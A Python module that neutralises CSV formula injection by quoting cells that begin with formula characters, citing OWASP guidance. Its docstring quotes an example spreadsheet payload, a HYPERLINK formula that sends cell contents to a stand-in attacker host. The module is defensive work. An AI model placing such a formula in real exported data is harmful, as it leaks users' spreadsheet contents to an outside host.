"""CSV cells that a spreadsheet cannot run: text starting with a formula character is quoted.

OWASP's CSV injection guidance: a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return may be taken for a formula by Excel, LibreOffice or Google Sheets
(`=HYPERLINK("https://evil.example/?"&A1, "Click")`). Such a cell is prefixed with a single
quote, which spreadsheets show as text; numbers, dates and empty cells are left alone. Every
CSV the product writes passes its rows through `safe_row`.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with a leading `'` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """Every cell of a CSV row through `safe_cell`."""
    return {key: safe_cell(value) for key, value in row.items()}
